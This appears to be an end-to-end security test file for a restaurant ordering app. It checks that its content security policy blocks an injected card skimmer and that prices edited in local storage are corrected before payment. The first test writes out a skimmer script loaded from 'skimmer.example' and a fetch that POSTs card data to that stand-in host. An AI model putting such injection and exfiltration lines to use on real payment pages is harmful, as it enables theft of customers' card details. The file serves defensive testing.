import { Guest } from '../pages/guest.ts';
import { CARDS } from '../scenarios/cards.ts';
import { readyToPay, withOlives } from '../scenarios/ordering.ts';
import { HEADINGS } from '../pages/result-page.ts';
import { expect, test } from '../test.ts';

test('a script that is put into the page where cards are typed neither runs nor is fetched (attack H39)', async ({
  browser,
  sandbox,
}) => {
  // A phone that nobody watches: the browser says of each what it kept from happening.
  const phone = await browser.newContext({ baseURL: sandbox.origin });
  const page = await phone.newPage();
  const guest = new Guest(page);
  const refused: string[] = [];
  page.on('console', (message) => void (/policy/i.test(message.text()) && refused.push(message.text())));
  const blocked: string[] = [];
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blocked.push(request.url());
  });
  await readyToPay(guest);
  await page.evaluate(() => {
    const skimmer = document.createElement('script');
    skimmer.src = 'https://skimmer.example/steal.js';
    document.head.append(skimmer);
    const inline = document.createElement('script');
    inline.textContent = 'window.stolen = true';
    document.head.append(inline);
    void fetch('https://skimmer.example/cards', { method: 'POST', body: 'numbers' }).catch(() => undefined);
  });
  await guest.pay.pay.tap();
  await guest.isAt(HEADINGS.success);
  expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
  expect(blocked).toContain('https://skimmer.example/steal.js');
  expect(refused.length).toBeGreaterThanOrEqual(3);
  await phone.close();
});

test('a price that was edited in the phone’s storage is the kitchen’s again before anything is paid (attack H38)', async ({
  guest,
  page,
  sandbox,
}) => {
  await withOlives(guest);
  const edited = await page.evaluate(() => {
    const before = localStorage.getItem('tableside.baskets') ?? '';
    const cheaper = before.replaceAll(/"portionPrice":\d+/g, '"portionPrice":1');
    localStorage.setItem('tableside.baskets', cheaper);
    return cheaper !== before;
  });
  expect(edited).toBe(true);
  await guest.reload();
  await expect(guest.basket.continue).toHaveText(/£0\.01/);
  await guest.basket.continue.tap();
  await expect(page.getByRole('alert')).toContainText('Your new total is £4.25');
  await page.getByRole('button', { name: /^Continue with the new total/ }).tap();
  await guest.pay.fillDetails();
  await guest.pay.fillCard(CARDS.approved);
  await guest.pay.pay.tap();
  await guest.isAt(HEADINGS.success);
  expect(sandbox.captures).toEqual([4.25]);
});
